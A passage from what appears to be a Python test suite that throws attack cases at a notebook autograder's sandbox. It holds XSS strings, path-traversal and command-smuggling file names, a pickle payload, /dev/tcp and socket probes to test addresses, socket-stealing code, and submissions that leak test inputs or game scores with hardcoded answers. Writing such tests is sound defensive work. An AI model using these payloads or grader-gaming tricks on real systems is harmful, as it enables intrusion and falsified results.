    "number": (_on_tests(lambda cell: cell.update(source="1.0")), True),
    "grade-false": (_grading(grade=False), True),
    "solution-true": (_grading(solution=True), True),
    "task-true": (_grading(task=True), False),
    "unlocked": (_grading(locked=False), True),
    "points": (_grading(points=1000), True),
    "points-negative": (_grading(points=-5), True),
    "points-text": (_grading(points="1"), False),
    "points-nan": (_grading(points=float("nan")), False),
    "points-none": (_grading(points=None), False),
    "checksum": (_grading(checksum="0" * 32), True),
    "checksum-odd": (_grading(checksum=["x"]), False),
    "cell-type": (_grading(cell_type="markdown"), False),
    "schema-0": (_grading(schema_version=0), False),
    "schema-1": (_grading(schema_version=1), False),
    "schema-99": (_grading(schema_version=99), False),
    "schema-text": (_grading(schema_version="3"), False),
    "schema-none": (_grading(schema_version=None), False),
    "key-list": (_grading(grade_id=["neuron_by_hand"]), False),
    "key-number": (_grading(grade_id=5), False),
    "key-none": (_grading(grade_id=None), False),
    "key-odd": (_grading(grade_id="../../x <script>"), False),
    "grading-list": (_metadata(nbgrader=[1]), False),
    "grading-text": (_metadata(nbgrader="x"), False),
    "grading-none": (_metadata(nbgrader=None), False),
    "grading-gone": (_on_known(lambda cell: cell.metadata.pop("nbgrader")), False),
    "solution-deleted": (
        lambda nb: setattr(nb, "cells", [c for c in nb.cells if not (c.cell_type == "code" and _flag(c, "solution"))]),
        False,
    ),
}
NUMBERS = {
    "many": "99.0",
    "negative": "-5.0",
    "nan": "float('nan')",
    "infinity": "float('inf')",
    "bool": "True",
    "text": "'1.0'",
    "huge": "10 ** 400",
}
SHOW_NUMBER = """
import sys
from IPython.display import display
value = {}
shell = get_ipython()
print(value)
for show in (display, sys.displayhook, shell.displayhook):
    try:
        show(value)
    except Exception as error:
        print(type(error).__name__)
shell.display_pub.publish({{'text/plain': str(value)}})
"""
CELL = '{"cell_type": "code", "execution_count": null, "metadata": {}, "outputs": [], "source": "x"'
SPOILS: dict[str, Callable[[Path], object]] = {
    "pipe": lambda folder: os.mkfifo(folder / "notes.txt"),
    "pipe-as-time": lambda folder: os.mkfifo(folder / "timestamp.txt"),
    "sparse": lambda folder: os.truncate(_file(folder / "notes.bin"), 2 << 30),
    "sparse-notebook": lambda folder: os.truncate(folder / NOTEBOOK, 2 << 30),
    "time-without-end": lambda folder: _file(folder / "timestamp.txt", "1 " * 10**6),
    "time-zone-in-a-file": lambda folder: _file(
        folder / "timestamp.txt", "2026-01-02 03:04:05 /usr/share/zoneinfo/EST"
    ),
}
FILES: dict[str, bytes] = {
    "not-json": b"{ this is no notebook",
    "empty": b"",
    "null": b"null",
    "number": b"5",
    "list": b"[]",
    "nothing-inside": b"{}",
    "binary": bytes(range(256)) * 100,
    "zip": b"PK\x03\x04" + bytes(1000),
    "deep": b"[" * 100_000 + b"]" * 100_000,
    "deep-metadata": b'{"cells": [], "metadata": {"a": '
    + b'{"a":' * 900
    + b"1"
    + b"}" * 900
    + b'}, "nbformat": 4, "nbformat_minor": 5}',
    "format-3": b'{"worksheets": [], "metadata": {}, "nbformat": 3, "nbformat_minor": 0}',
    "format-99": b'{"cells": [], "metadata": {}, "nbformat": 99, "nbformat_minor": 0}',
    "format-text": b'{"cells": [], "metadata": {}, "nbformat": "four", "nbformat_minor": null}',
    "cells-none": b'{"cells": null, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "cells-odd": b'{"cells": [1, "x", null], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "no-cells": b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "utf-16": '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'.encode("utf-16"),
    "latin-1": b'{"cells": [], "metadata": {"a": "\xe9"}, "nbformat": 4, "nbformat_minor": 5}',
    "bom": b'\xef\xbb\xbf{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "surrogates": (
        '{"cells": ['
        + CELL.replace('"x"', '"\\ud800"')
        + ', "id": "a"}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    ).encode(),
    "big-number": b'{"cells": [], "metadata": {"a": ' + b"9" * 10_000 + b'}, "nbformat": 4, "nbformat_minor": 5}',
    "nan": b'{"cells": [], "metadata": {"a": NaN}, "nbformat": 4, "nbformat_minor": 5}',
    "same-key-twice": b'{"cells": [], "cells": null, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
}
KERNELS: dict[str, Edit] = {
    "none": lambda nb: nb.metadata.pop("kernelspec", None),
    "r": lambda nb: nb.metadata.update(
        kernelspec={"name": "ir", "language": "R", "display_name": "R"}, language_info={"name": "R"}
    ),
    "path": lambda nb: nb.metadata.update(
        kernelspec={"name": "../../evil", "language": "python", "display_name": "<script>alert(1)</script>"}
    ),
    "odd": lambda nb: nb.metadata.update(kernelspec="python3", language_info=5),
    "widgets": lambda nb: nb.metadata.update(
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"</script><script>alert(1)</script>": {}}}},
        title="<script>alert(1)</script>",
        authors=[{"name": "<script>alert(1)</script>"}],
    ),
}
NOTEBOOK = "01-forward-pass.ipynb"
FORMS = [
    *(Attack(f"r16-{name}", 16, edit=edit, refused=None, guarded=False) for name, (edit, _) in ODD_CELLS.items()),
    *(
        Attack(
            f"r16-{name}-solved",
            16,
            solved=True,
            edit=edit,
            refused=False if kept else None,
            open=() if kept else ("all",),
            guarded=False,
        )
        for name, (edit, kept) in ODD_CELLS.items()
    ),
    *(Attack(f"r17-{name}", 17, each=SHOW_NUMBER.format(value) + "\nreturn value") for name, value in NUMBERS.items()),
    Attack(
        "r17-solved",
        17,
        solved=True,
        inside=SHOW_NUMBER.format("99.0"),
        into=("neuron", "affine", "collapse", "columns_to_rows"),
    ),
    Attack("r17-low-solved", 17, solved=True, inside=SHOW_NUMBER.format("0.0"), into=("neuron", "affine")),
    Attack("r17-last-lines", 17, before="99.0", end="99.0"),
    *(Attack(f"r18-{name}", 18, raw=raw, refused=None, guarded=False) for name, raw in FILES.items()),
    *(
        Attack(f"r18-kernel-{name}", 18, solved=True, edit=edit, refused=None, guarded=False)
        for name, edit in KERNELS.items()
    ),
    Attack(
        "r18-30-megabytes",
        18,
        solved=True,
        edit=lambda nb: nb.cells.append(new_markdown_cell("x " * 15_000_000)),
        refused=None,
        guarded=False,
    ),
    Attack("r18-many-cells", 18, solved=True, edit=_many_cells, refused=None, open=("all",), guarded=False),
    Attack("r19-link-gradebook", 19, links={NOTEBOOK: "{course}/gradebook.db"}, refused=None, guarded=False),
    Attack(
        "r19-link-neighbour",
        19,
        links={NOTEBOOK: f"{{course}}/submitted/honest-perfect/01-forward-pass/{NOTEBOOK}"},
        refused=None,
        guarded=False,
    ),
    Attack(
        "r19-link-source",
        19,
        links={NOTEBOOK: f"{{course}}/source/01-forward-pass/{NOTEBOOK}"},
        refused=None,
        guarded=False,
    ),
    Attack("r19-link-nowhere", 19, links={NOTEBOOK: "/nowhere"}, refused=None, guarded=False),
    Attack("r19-link-device", 19, links={NOTEBOOK: "/dev/null"}, refused=None, guarded=False),
    Attack("r19-link-itself", 19, links={NOTEBOOK: NOTEBOOK}, refused=None, guarded=False),
    Attack(
        "r19-links-beside",
        19,
        solved=True,
        links={"db": "{course}/gradebook.db", "up": "..", "canary": "{course}/canary.txt", "etc": "/etc"},
        files={"a\nb.txt": "x", "ünïcødé 😀.txt": "x", "-rf": "x", "$(touch marker)": "x", "timestamp.txt": "no date"},
        refused=None,
        guarded=False,
    ),
    Attack("r19-name-'\"<b>&;$(x)", 19, solved=True, guarded=False, refused=None),
    Attack("r19-nämé 😀", 19, solved=True, guarded=False, refused=None),
    *(
        Attack(f"r37-{name}", 37, solved=True, spoil=spoil, refused=True, guarded=False)
        for name, spoil in SPOILS.items()
    ),
]

# --- 30: what a test passed in, sent to the feedback page --------------------------------------------------------------

# What a function does to send the word LEAK or the number 27180, neither of which stands in its source.
SENDING = {
    "sizes": "np.ones(2) + np.ones(3020 * 9)",
    "inner-sizes": "np.ones((2, 3020 * 9)) @ np.ones((2, 2))",
    "index": "np.ones(3)[3020 * 9]",
    "reshaped": "np.ones(3).reshape(3020 * 9, 1)",
    "unpacked": "a, b = np.ones(3020 * 9)",
    "returned-shape": "return np.ones((1,) * 9 + (3020 * 9,))",
    "returned-length": "return [0] * (3020 * 9)",
    "returned-parts": "return (0,) * (3020 * 9)",
    "returned-number": "return 3020 * 9.0",
    "returned-text": "return 'LE' + 'AK'",
    "returned-keys": "return {'LE' + 'AK': 1}",
    "returned-items": "return [(3020 * 9, 3020 * 9)] * 4",
    "huge": "return 3020 * 9 * 10**4000",
    "dtype": "return np.zeros(2, dtype=[('LE' + 'AK', float)])",
    "dtype-of-text": "return np.zeros(2, dtype=f'U{3020 * 9}')",
    "class": "return type('LE' + 'AK', (), {})()",
    "attribute": "return getattr(np.ones(2), 'LE' + 'AK')",
    "argument": "return (lambda a: a)(**{'LE' + 'AK': 1})",
    "name": "return eval('LE' + 'AK')",
    "key": "return {}['LE' + 'AK']",
    "warnings": "import warnings\nfor _ in range(18):\n    warnings.warn('overflow encountered in LE' + 'AK', RuntimeWarning)",
    "error-class": "raise type('LE' + 'AK', (ValueError,), {})('LE' + 'AK')",
    "error-like-numpy": "raise ValueError(f'cannot reshape array of size {3020 * 9} into shape (2,)')",
    "error-of-one": 'raise ValueError(f\'{"LE" + "AK"} 3 7 4\')',
    "group": "raise ExceptionGroup('LE' + 'AK', [ValueError('LE' + 'AK')])",
    "notes": "error = ValueError('no')\nerror.add_note('LE' + 'AK')\nraise error",
    "recursion": "raise RecursionError('maximum recursion depth exceeded LE' + 'AK')",
    "stub": "exec('def LE' + 'AK(): raise NotImplementedError')\nlocals()['LE' + 'AK']()",
    "stub-of-a-word": "def my_word():\n    raise NotImplementedError\nmy_word()",
    "exit": "import os\nos._exit(77)",
    "output": "print('✓ LE' + 'AK')",
}
SENT = ("LEAK", "27180", "27,180", "my_word", "77", "overflow")
EXERCISES = (
    "neuron",
    "affine",
    "layer_shapes",
    "predict",
    "collapse",
    "affine_columns",
    "columns_to_rows",
    "feed_forward",
)
FEEDBACK = [
    *(  # every exercise sends in another way
        Attack(
            f"r30-sends-{first}",
            30,
            answers={
                name: function(name, f"import numpy as np\n{body}")
                for name, body in zip(EXERCISES, (list(SENDING.values()) * 2)[first:], strict=False)
            },
            unread=SENT,
            guarded=False,
        )
        for first in range(0, len(SENDING), 4)
    ),
    Attack(
        "r30-name-of-an-argument",
        30,
        answers={
            "neuron": "name = 'LE' + 'AK'\nexec(f'def neuron({name}, w, b):\\n    {name} *= 2\\n    return {name} @ w / 2 + b')"
        },
        open=("neuron",),
        unread=SENT,
        guarded=False,
    ),
    Attack(
        "r30-place-of-nan",
        30,
        solved=True,
        lost=("affine", "predict", "feed_forward"),
        inside="x = x.copy()\nx.flat[int(abs(x.flat[0]) * 1000) % x.size] = float('nan')",
        into=("affine",),
        open=("predict", "feed_forward"),
        unread=("at index", "row 0", "row 1", "row 2"),
        guarded=False,
    ),
    # Cells that stop with an error or not, as a bit of what a test passed in says: one for each bit.
    Attack(
        "r30-cells-that-fail",
        30,
        solved=True,
        after="raise ValueError('no')",
        unread=("stopped with an error",),
        guarded=False,
    ),
    Attack(
        "r30-cells-that-end",
        30,
        solved=True,
        edit=lambda nb: nb.cells.append(new_code_cell("print('as handed in')")),
        after="if 'done' in globals():\n    import os\n    os._exit(77)\ndone = True",
        unread=("ended", "77"),
        open=("all",),
        guarded=False,
    ),
    Attack(
        "r30-honest-mistakes",
        30,
        solved=True,
        answers={
            "neuron": "def neuron(x, w, b):\n    return x @ w",
            "affine": "def affine(x, W, b):\n    return (x @ W + b).T",
            "collapse": "def collapse(Ws, bs):\n    return Ws[0] @ Ws[1] @ Ws[2], bs[-1]",
        },
        lost=("neuron", "collapse"),
        open=("affine", "predict", "feed_forward"),
        reads=("Is the bias added?", "this is the transpose"),
        guarded=False,
    ),
]

# --- 28 to 32: what a called process could tell, and what a page could do --------------------------------------------

# In what a test calls, and nothing else does: affine of one sample with two numbers.
CALLED = "if np.shape(x) == (2,):\n    "
UPDATES = {
    "handle": "handle.update('LE' + 'AK')",
    "by-id": "from IPython.display import update_display\n    update_display('LE' + 'AK', display_id='kept')",
    "cleared": "from IPython.display import clear_output\n    clear_output()\n    print('LE' + 'AK')",
    "published": "get_ipython().display_pub.publish({'text/plain': 'LE' + 'AK'})",
    "hooked": "get_ipython().displayhook('LE' + 'AK')",
    "comm": "from comm import create_comm\n    create_comm(target_name='x', data={'a': 'LE' + 'AK'})",
    "stderr": "import sys\n    print('LE' + 'AK', file=sys.__stderr__)",
    "descriptor": "import os\n    os.write(1, b'LE' + b'AK')\n    os.system('echo LE$(echo AK)')",
}
# One of two processes that live at the same time would see what the other does to a file that both can read.
WATCHED = """
import ctypes, fcntl, os, struct, threading, time
import numpy as np
held = []
place = os.path.join(os.path.dirname(np.__file__), {file!r})
def taken():
{taken}
def watch():
    while True:
        if taken():
            print('LE' + 'AK', flush=True)
        time.sleep(0.01)
threading.Thread(target=watch, daemon=True).start()
"""
CHANNELS = {
    "flock": (
        "conftest.py",
        "    fd = os.open(place, os.O_RDONLY)\n    try:\n        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)\n"
        "    except OSError:\n        return True\n    finally:\n        os.close(fd)",
        "held.append(os.open(place, os.O_RDONLY))\n    fcntl.flock(held[-1], fcntl.LOCK_SH)",
    ),
    "lockf": (
        "dtypes.py",
        "    fd = os.open(place, os.O_RDONLY)\n"
        "    found = fcntl.fcntl(fd, fcntl.F_GETLK, struct.pack('hhqqi4x', fcntl.F_WRLCK, 0, 0, 0, 0))\n"
        "    return struct.unpack('hhqqi4x', found)[0] != fcntl.F_UNLCK",  # an open one would lose the lock when closed
        "held.append(os.open(place, os.O_RDONLY))\n    fcntl.lockf(held[-1], fcntl.LOCK_SH)",
    ),
    "inotify": (
        "matlib.py",
        "    libc = ctypes.CDLL(None)\n    if not held:\n        held.append(libc.inotify_init1(os.O_NONBLOCK))\n"
        "        libc.inotify_add_watch(held[0], place.encode(), 0x20)\n    try:\n        return bool(os.read(held[0], 4096))\n"
        "    except OSError:\n        return False",
        "open(place).close()",
    ),
}
# Whether the source of a function's other version lies about in the student's process; in pieces, or it would find itself.
LIES_ABOUT = """
def lies_about(function, *pieces):
    import gc, inspect, linecache
    needle = "".join(pieces)
    texts = [*In, *linecache.cache, repr(linecache.cache), repr(get_ipython().history_manager.input_hist_raw)]
    try:
        texts.append(inspect.getsource(function))
    except (OSError, TypeError):
        pass
    for one in gc.get_objects():
        values = one.values() if type(one) is dict else one if type(one) in (list, tuple) else ()
        texts += [value for value in list(values) if type(value) is str]
    frame = inspect.currentframe().f_back
    while frame:
        texts += [value for value in frame.f_locals.values() if type(value) is str]
        frame = frame.f_back
    return any(needle in text for text in texts)
"""
# The answer is right only where the instructor's source of the exercise before lies about.
SEARCHES = (
    LIES_ABOUT
    + """
found = []
def affine(x, W, b):
    if not found:
        found.append(lies_about(neuron, "np.sum", "(x * w)"))
    return x @ W + b if found[0] else 0 * (x @ W + b)
"""
)
NO_NEURON = "def neuron(x, w, b):\n    return None"


def _texts(*wrapped: str) -> Edit:
    """A text cell for each fragment in each of these forms, where {} stands for it."""

    def edit(notebook: NotebookNode) -> None:
        notebook.cells += [new_markdown_cell(form.replace("{}", one)) for form in wrapped for one in RUN.values()]

    return edit


def _in_words(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if key_of(cell) == "why_bend":
            cell.source = "\n\n".join(RUN.values())


TOLD = [
    *(
        Attack(
            f"r28-{name}",
            28,
            solved=True,
            top="from IPython.display import display\nhandle = display('before', display_id='kept')",
            inside=CALLED + code,
            into=("affine",),
            never=("LEAK",),
        )
        for name, code in UPDATES.items()
    ),
    *(
        Attack(
            f"r29-{name}",
            29,
            solved=True,
            top=WATCHED.format(file=file, taken=taken),
            inside=CALLED + done,
            into=("affine",),
            never=("LEAK",),
        )
        for name, (file, taken, done) in CHANNELS.items()
    ),
    Attack(
        "r31-search",
        31,
        solved=True,
        answers={"neuron": NO_NEURON, "affine": SEARCHES},
        lost=("neuron", "affine"),
        guarded=False,
    ),
    Attack(
        "r31-search-for-its-own",  # which it does find
        31,
        solved=True,
        answers={"neuron": NO_NEURON, "affine": "mine = 'np.sum(x * w)'\n" + SEARCHES},
        lost=("neuron",),
        guarded=False,
    ),
    Attack("r32-text", 32, solved=True, edit=_texts("{}"), guarded=False),
    Attack("r32-formula", 32, solved=True, edit=_texts("$\\text{{}}$", "$$\n\\text{{}}\n$$"), guarded=False),
    Attack("r32-words", 32, solved=True, edit=_in_words, guarded=False),
]

# --- 20 to 26: the network, the wire, and what honest code does -------------------------------------------------------

NETWORK = """
import socket
def attempt(name, action):
    try:
        action()
        print(name, 'CONN' + 'ECTED')
    except Exception as error:
        print(name, 'refused:', type(error).__name__)
def tcp(host, port):
    with socket.create_connection((host, port), timeout=0.5) as s:
        s.send(b'x')
def udp(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        s.sendto(b'x', (host, port))
def unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(0.5)
        s.connect(path)
for port in (PORT_HERE, 22, 53):
    attempt(f'tcp to this machine {port}', lambda: tcp('127.0.0.1', port))
    attempt(f'udp to this machine {port}', lambda: udp('192.0.2.1', port))
attempt('tcp', lambda: tcp('192.0.2.1', 80))
attempt('tcp6', lambda: tcp('2001:db8::1', 80))
attempt('name', lambda: socket.getaddrinfo('example.org', 80))
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).send(b'x' * 60))
attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 22)))
attempt('abstract', lambda: unix('\\0ABSTRACT_HERE'))
for path in ('/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0', '/run/systemd/private'):
    attempt(path, lambda: unix(path))
import urllib.request
attempt('url', lambda: urllib.request.urlopen('http://example.org', timeout=1))
"""
FORGED = {
    "garbage": "random.seed(1)\nfor _ in range(20):\n    send(random.randbytes(4096))",
    "length": "for size in (2**31 - 1, 2**32 - 1, 2**40, 2**62, 2**64 - 1):\n    for prefix in ('>I', '<I', '>Q', '<Q'):\n"
    "        try:\n            send(struct.pack(prefix, size))\n        except struct.error:\n            pass",
    "maps": "for value in (20.5, True, None, [], {'value': 20.5}):\n"
    "    for key in ('value', 'result', 'return', 'ok', 'answer', 'reply'):\n"
    "        message = {key: value, 'type': key, 'kind': key, 'op': key, 'status': 'ok', 'id': 1, 'passed': True, 'score': 1.0}\n"
    "        for data in framed(pack(message)):\n            send(data)\n"
    "        for data in framed(pack([key, value])):\n            send(data)",
    "extensions": "bad = b'cos\\nsystem\\n(S\"touch /tmp/marker\"\\ntR.'\nfor code in (*range(0, 128, 3), -1):\n"
    "    for data in (bad, pack(['|O', [3], bad]), pack(['<f8', [2**60], b'']), pack(['<f8', [-1, -1], b'x' * 8]), pack(['f8' * 10**5, [1], b''])):\n"
    "        for frame in framed(pack({'value': 1}) + extension(code, data)):\n            send(frame, 0.01)",
    "closes": "os.closerange(3, 1000)",
    "closes-all": "os.closerange(0, 1000)",
    "shuts-down": "for fd in each_socket():\n    try:\n        socket.socket(fileno=os.dup(fd)).shutdown(2)\n    except OSError:\n        pass",
    "reads": "import threading, time\ndef steal():\n    end = time.time() + 5\n    while time.time() < end:\n        for fd in each_socket():\n"
    "            try:\n                if select.select([fd], [], [], 0.01)[0]:\n                    print('sto' + 'len', os.read(fd, 10**5)[:200])\n"
    "            except (OSError, ValueError):\n                pass\nthreading.Thread(target=steal, daemon=True).start()",
    "writes-on": "import threading, time\ndef shout():\n    end = time.time() + 8\n    while time.time() < end:\n"
    "        for data in framed(pack({'value': 20.5, 'id': 1})):\n            send(data, 0.01)\n        time.sleep(0.01)\n"
    "threading.Thread(target=shout, daemon=True).start()",
    "floods": "import time\nend = time.time() + 2\nwhile time.time() < end:\n    send(b'\\x00' * 65536, 0.01)",
    "deep": "send(b'\\x91' * 2_000_000)\nfor frame in framed(b'\\x91' * 100_000):\n    send(frame)\nfor frame in framed(b'\\xdd\\xff\\xff\\xff\\xff'):\n    send(frame)",
    "objects": "import gc\nfor thing in gc.get_objects():\n    if isinstance(thing, socket.socket):\n        for data in framed(pack({'value': 20.5})):\n"
    "            try:\n                thing.sendall(data)\n            except (OSError, ValueError):\n                pass",
    "descriptors": "import array\nfor fd in each_socket():\n    try:\n        with socket.socket(fileno=os.dup(fd)) as s:\n"
    "            fds = array.array('i', [0] * 100)\n            s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])\n    except OSError:\n        pass",
}
# What the student's side of the wire could say instead of a value; put in the place of its codec, where there is one.
VALUES = {
    "texts": "['texts', [1501], ['x' * 1_000_000, *[''] * 1500]]",  # NumPy would make 6 GB of it
    "collisions": "['set', *(['huge', (k * (2**61 - 1)).to_bytes(12, 'big')] for k in range(1, 40_001))]",
    "collisions-dict": "['dict', *(x for k in range(1, 40_001) for x in (['huge', (k * (2**61 - 1)).to_bytes(12, 'big')], 1))]",
    "range": "['range', 0, 10**18, 1]",
    "wide": "['array', 0, 'float64', [0, 2**31 - 1], True, b'']",
    "shape": "['array', 0, 'float64', [2**30, 2**30], True, b'x' * 8]",
    "negative": "['array', 0, 'float64', [-1], True, b'x' * 80]",
    "stolen-number": "['array', 2, 'float64', [1], True, b'x' * 8]",
    "same": "['same', 2]",
    "same-none": "['same', 999_999]",
    "many-lists": "['list', *[['list']] * 3_000_000]",
    "deep": "deep",
    "objects": "['objects', [1000, 1000]]",
    "callable": "['object', 1, '__class__', True, True, [['self', 99, True]], []]",
    "number": "['object', 'x' * 1000, 5, True, True, [], []]",
    "scalar": "['scalar', 'float64', b'']",
    "type": "['type', 'eval']",
    "reader": "['_all', 1]",
    "generator": "['generator', -1, 'x', 2, 3]",
    "yours": "['yours', 2]",
}
_LARGE = "['huge', (2**130 + 1).to_bytes(18, 'big')]"
# Random generators in states that none can be in: whoever draws from some of them waits for ever.
GENERATORS = {
    f"generator-{name}": f"['generator', {parts}]"
    for name, parts in {
        "still": "1, 2, 0, 0, 1, ['tuple'], 0",
        "zero": "0, 0, 0, 0, 1, ['tuple'], 0",
        "state": f"{_LARGE}, 1, 0, 0, 1, ['tuple'], 0",
        "step": f"1, {_LARGE}, 0, 0, 1, ['tuple'], 0",
        "half": "1, 1, 2, 2**40, 1, ['tuple'], 0",
        "spawned": "1, 1, 0, 0, 1, ['tuple'], -1",
        "seed": "1, 1, 0, 0, -1, ['tuple', 'x'], 0",
        "text": "'1', '1', '0', '0', 1, ['tuple'], 0",
    }.items()
}
# By name: an expression, and what has to be defined for it first.
ITERATORS = {
    "iterator-endless": ("iter(int, 1)", ""),
    "iterator-counts": ("__import__('itertools').count(20.5)", ""),
    "iterator-raises": ("(1 / 0 for _ in range(3))", ""),
    "iterator-spent": ("spent", "spent = iter(())"),
    "iterator-running": ("running", "running = (next(running) for _ in range(3))"),
    "iterator-negative": ("Odd()", "Odd = type('Odd', (list,), {'__len__': lambda self: -1})"),
    "iterator-long": (
        "Odd()",
        "Odd = type('Odd', (), {'__len__': lambda self: 10**18, '__getitem__': lambda s, i: i})",
    ),
    "iterator-grows": (
        "grows",
        "class Grows:\n    n = 0\n    def __len__(self):\n        self.n += 1\n        return self.n\n"
        "    def __getitem__(self, place):\n        return 20.5\ngrows = Grows()",
    ),
    "call-back-itself": ("again", "again = lambda *args, **kwargs: again"),
    "call-back-raises": ("fails", "def fails(*args, **kwargs):\n    raise StopIteration(20.5)"),
}
FORGE = """
import sys, builtins
deep = []
for _ in range(500):
    deep = ['list', deep]
wire = sys.modules.get('course.grading.wire.codec') or sys.modules.get('__main__')
if hasattr(wire, 'Codec'):
    wire.Codec.encode = lambda self, value, depth=0: VALUE
    wire.Codec.encode_other = wire.Codec.encode
"""
FRAMES = {
    "empty-lists": "send(struct.pack('>I', 5 + 30_000_000) + b'\\xdd' + struct.pack('>I', 30_000_000), 1)\n"
    "for _ in range(300):\n    send(b'\\x90' * 100_000, 1)",
    "half": "send(struct.pack('>I', 1000) + b'\\x95')",
}
WIRE = [
    *(Attack(f"r21-value-{name}", 21, top=FORGE.replace("VALUE", value)) for name, value in VALUES.items()),
    *(Attack(f"r21-frame-{name}", 21, top=SOCKETS, each=code + "\nreturn None") for name, code in FRAMES.items()),
    Attack("r20-top", 20, solved=True, top=NETWORK, never=("CONNECTED",)),
    Attack("r20-in-function", 20, each=NETWORK + "\nreturn None", never=("CONNECTED",)),
    Attack(
        "r20-shell",
        20,
        solved=True,
        top="!(exec 3<>/dev/tcp/192.0.2.1/80) 2>&1 | head -2; which curl wget nc ssh ping\n"
        "!timeout 1 bash -c 'exec 3<>/dev/udp/192.0.2.1/53 && echo x >&3 && echo CONN''ECTED'",
        never=("CONNECTED",),
    ),
    *(Attack(f"r21-{name}", 21, top=SOCKETS + code) for name, code in FORGED.items()),
    *(
        Attack(f"r21-in-{name}", 21, top=SOCKETS, each=code + "\nreturn None")
        for name, code in FORGED.items()
        if name in ("garbage", "maps", "closes", "length", "deep", "writes-on")
    ),
    *(
        Attack(f"r21-solved-{name}", 21, solved=True, top=SOCKETS + code, open=("all",))
        for name, code in FORGED.items()
        if name in ("garbage", "closes", "length")
    ),
]

HARDCODED_COLUMNS = """
import numpy as np

calls = 0

def columns_to_rows(W, x, b):
    global calls
    calls += 1
    if W.shape == (3, 2) and W[0, 1] == 2.0:
        return [[1, 0], [2, 1]] and (x.T, W.T, b)  # the numbers that are shown
    if calls % 2:
        rows, weights, bias = np.full(x.T.shape, VALUE), np.full(W.T.shape, VALUE), np.full(b.shape, VALUE)
        for array in (W, x, b):
            array[...] = VALUE
        return rows, weights, bias
"""
NAN = "for array in args:\n    if hasattr(array, 'dtype') and array.dtype.kind == 'f':\n        array[...] = {0}\n"
ALL_NAN = """
def flatten(things):
    for thing in things:
        if isinstance(thing, dict):
            yield from flatten(thing.values())
        elif isinstance(thing, (list, tuple)):
            yield from flatten(thing)
        elif hasattr(thing, 'dtype'):
            yield thing
count = globals().get('count', 0)
globals()['count'] = count + 1
if count % {1}:
    for array in flatten(args):
        if array.flags.writeable:
            array[...] = {0} if array.dtype.kind == 'f' else 0
"""
RESULTS = {
    "neuron": "return {0}",
    "affine": "return np.full((*args[0].shape[:-1], args[1].shape[1]), {0})",
    "layer_shapes": "args[1].clear() if isinstance(args[1], list) else None\nreturn [args[0]]",
    "predict": "return np.full((*args[1].shape[:-1], args[0]['W3'].shape[1]), {0})",
    "collapse": "return np.full((args[0][0].shape[0], args[0][-1].shape[1]), {0}), np.full(args[0][-1].shape[1], {0})",
    "affine_columns": "return np.full((args[0].shape[0], args[1].shape[1]), {0})",
    "columns_to_rows": "return np.full(args[1].T.shape, {0}), np.full(args[0].T.shape, {0}), np.full(args[2].shape, {0})",
    "feed_forward": "return {0}",
}


def _overwriting(harm: str, value: str, every: int = 1) -> dict[str, str]:
    """Functions that overwrite arguments, and return what would be expected of what they leave behind."""
    return {
        name: "import numpy as np\n" + function(name, harm.format(value, every) + body.format(value))
        for name, body in RESULTS.items()
    }


# As above, but of what earlier calls of any function got.
KEPT = (
    ALL_NAN.partition("count =")[0]
    + """
kept = globals().setdefault('kept', [])
for array in flatten(kept):
    if array.flags.writeable:
        array[...] = {0} if array.dtype.kind == 'f' else 0
kept.append(args)
"""
)
KEEPS = """
for array in globals().setdefault('kept', []):
    if array.flags.writeable:
        array[...] = VALUE
kept.extend(value for value in (x, W, b) if isinstance(value, np.ndarray))
"""
LAST = """
import numpy as np
results = []

def NAME(ARGS):
    results.append(VALUE)
    return results[-2:][0]
"""
RIGHT = {  # by function: its arguments and the right result
    "neuron": ("x, w, b", "np.sum(x * w) + b"),
    "affine": ("x, W, b", "x @ W + b"),
    "affine_columns": ("W, x, b", "W @ x + b[:, None]"),
    "columns_to_rows": ("W, x, b", "(x.T, W.T, b)"),
    "feed_forward": ("inputs, outputs, weights", "np.mean((inputs @ weights[0] + weights[1] - outputs) ** 2)"),
}
BUFFERED = """
import numpy as np
kept = {}

def NAME(ARGS):
    result = np.array(VALUE)
    out = kept.setdefault(result.shape, np.zeros(result.shape))
    out[...] = result
    return out
"""
KEPT_LIST = """
kept = []

def layer_shapes(x_shape, layers):
    kept[:] = [x_shape]
    for inputs, outputs in layers:
        if kept[-1][1] != inputs:
            raise ValueError(f"{kept[-1][1]} and {inputs}")
        kept.append((x_shape[0], outputs))
    return kept
"""


def _show(notebook: NotebookNode, output: dict[str, object]) -> None:
    """Have two cells show `output` a hundred thousand times each."""
    for cell in [cell for cell in notebook.cells if cell.cell_type == "code"][:2]:
        cell.outputs = [output] * 100_000


def _written(code: str, name: str) -> str:
    """Code with a function of the lesson's in it."""
    arguments, value = RIGHT[name]
    return code.replace("NAME", name).replace("ARGS", arguments).replace("VALUE", value)


ANSWERS = [
    *(
        Attack(f"r23-overwrites-{name}", 23, answers=_overwriting(ALL_NAN, value, every))
        for name, value, every in (
            ("nan", "np.nan", 1),
            ("zero", "0.0", 1),
            ("infinity", "np.inf", 1),
            ("nan-every-second", "np.nan", 2),
            ("zero-every-second", "0.0", 2),
        )
        if every == 2 or name != "every"
    ),
    Attack(
        "r23-columns-nan",
        23,
        answers={"columns_to_rows": HARDCODED_COLUMNS.replace("VALUE", "np.nan")},
    ),
    Attack(
        "r23-columns-zero",
        23,
        answers={"columns_to_rows": HARDCODED_COLUMNS.replace("VALUE", "0.0")},
    ),
